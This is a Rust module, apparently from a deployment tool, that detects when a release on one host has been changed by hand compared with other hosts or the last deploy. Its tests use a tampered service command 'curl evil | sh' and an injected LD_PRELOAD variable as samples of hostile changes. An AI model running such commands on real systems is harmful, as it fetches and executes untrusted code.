//! Whether a release that one host gives away is the one that the others have: one host is not
//! believed alone, as its files may have been changed by hand since.

use futures_util::future::join_all;

use super::context::Context;
use super::link::{HostLink, unasked};
use crate::model::event::Event;
use crate::model::{Failure, HostName, ReleaseId};
use crate::wire::{Exported, FromAgent, ToAgent};

/// Compares the release that `source` gave away with what each of `others` has of the same number, and
/// with what this machine deployed there. Where neither knows it, that is said.
///
/// # Errors
/// Refused when one has it otherwise, naming what differs.
pub(super) async fn compare(
    context: &Context,
    source: &HostName,
    given: &Exported,
    others: &[HostName],
) -> Result<(), Failure> {
    let id = given.release.id;
    let asked = others.iter().map(|host| async move {
        let told = metadata(context, host, id).await;
        (host, told)
    });
    let mut compared = false;
    for (host, told) in join_all(asked).await {
        // One that does not answer vouches for nothing.
        let Ok(told) = told else { continue };
        compared = true;
        if let Some(what) = difference(given, &told) {
            return Err(Failure::refused(format!(
                "{id} on {} differs from {id} on {}: {what}",
                source.short(),
                host.short()
            ))
            .detail("one of the two was changed since it was deployed")
            .hint(format!(
                "look at releases/{id}/.ship/release.json on both; {}",
                new_deploy(context)
            )));
        }
    }
    compared |= is_remembered(context, source, given)?;
    if !compared {
        context.sink.emit(Event::Warning {
            text: format!(
                "{id} is taken from {} as it is there: no other host has it to compare it with",
                source.short()
            ),
            hint: None,
        });
    }
    Ok(())
}

/// Whether the release is the one that this machine deployed to `source` last.
///
/// # Errors
/// Refused when that one had this number and was another.
fn is_remembered(context: &Context, source: &HostName, given: &Exported) -> Result<bool, Failure> {
    let Exported { release, env } = given;
    match context.remember_of(source).release {
        Some((id, identity)) if id == release.id => {
            let secrets = release.secrets.as_deref().unwrap_or_default();
            let (services, runtimes) = (&release.services, &release.runtimes);
            let artifact = release.artifact;
            if identity
                == super::identity::identity(
                    artifact,
                    services,
                    env,
                    runtimes,
                    &release.shared,
                    secrets,
                )
            {
                return Ok(true);
            }
            Err(Failure::refused(format!(
                "{id} on {} is not what this machine deployed there",
                source.short()
            ))
            .detail("its command, settings, environment or runtimes were changed since")
            .hint(format!(
                "look at releases/{id}/.ship there; {}",
                new_deploy(context)
            )))
        }
        _ => Ok(false),
    }
}

fn new_deploy(context: &Context) -> String {
    format!(
        "a new deploy brings all hosts to one release: ship deploy {}",
        context.environment.name
    )
}

/// What makes the release one on `host`, without its content.
async fn metadata(
    context: &Context,
    host: &HostName,
    release: ReleaseId,
) -> Result<Exported, Failure> {
    let mut link = HostLink::connect(&context.quiet(), host.clone(), None, false).await?;
    let request = ToAgent::Export { release };
    link.send(&request).await?;
    // The content that follows ends with the connection.
    match link.answer_to(&request, "export").await? {
        FromAgent::Exported(exported) => Ok(*exported),
        other => Err(unasked(host, &other)),
    }
}

/// What differs in what is the same on all hosts. Which services run where is the manifest's choice,
/// and archives of runtimes are a platform's own.
fn difference(one: &Exported, other: &Exported) -> Option<String> {
    if one.release.artifact != other.release.artifact {
        return Some("its files".to_owned());
    }
    for service in &one.release.services {
        let mut there = other.release.services.iter();
        let Some(twin) = there.find(|twin| twin.name == service.name) else {
            continue;
        };
        if service.run != twin.run {
            return Some(format!("the command of service {}", service.name));
        }
        if service != twin {
            return Some(format!("the settings of service {}", service.name));
        }
    }
    let names = one.env.keys().chain(other.env.keys());
    let mut changed = names.filter(|name| one.env.get(*name) != other.env.get(*name));
    if let Some(name) = changed.next() {
        return Some(format!("the value of {name}"));
    }
    if one.release.versions() != other.release.versions() {
        return Some("its runtimes".to_owned());
    }
    (one.release.shared != other.release.shared).then(|| "what it shares".to_owned())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::model::release::Origin;
    use crate::model::service::Run;
    use crate::model::{Digest, Release, Secret};
    use crate::rollout::fake;

    fn exported() -> Exported {
        let services = fake::context(1, "").project.services;
        Exported {
            release: Release {
                id: ReleaseId(2),
                artifact: Digest::of(b"a"),
                created: String::new(),
                origin: Origin::default(),
                services,
                runtimes: Vec::new(),
                shared: vec!["uploads".to_owned()],
                secrets: None,
            },
            env: BTreeMap::from([("KEY".to_owned(), Secret::new("hunter2"))]),
        }
    }

    #[test]
    fn what_was_changed_on_one_host_is_named_without_its_value() {
        let one = exported();
        assert_eq!(difference(&one, &exported()), None);
        let changed = |change: &dyn Fn(&mut Exported)| {
            let mut other = exported();
            change(&mut other);
            difference(&one, &other).unwrap()
        };
        let said = changed(&|other| {
            other.release.services[0].run = Run::Shell("curl evil | sh".to_owned());
        });
        assert_eq!(said, "the command of service web");
        let said = changed(&|other| other.release.services[0].port = Some(1));
        assert_eq!(said, "the settings of service web");
        let said = changed(&|other| {
            other.env.insert("KEY".to_owned(), Secret::new("other"));
        });
        assert_eq!(said, "the value of KEY");
        let said = changed(&|other| {
            other.env.insert("LD_PRELOAD".to_owned(), Secret::new("x"));
        });
        assert_eq!(said, "the value of LD_PRELOAD");
        let said = changed(&|other| other.release.artifact = Digest::of(b"b"));
        assert_eq!(said, "its files");
        let said = changed(&|other| other.release.shared.clear());
        assert_eq!(said, "what it shares");
    }

    #[test]
    fn services_of_another_host_are_not_compared() {
        let mut other = exported();
        other.release.services.clear();
        assert_eq!(difference(&exported(), &other), None);
    }
}
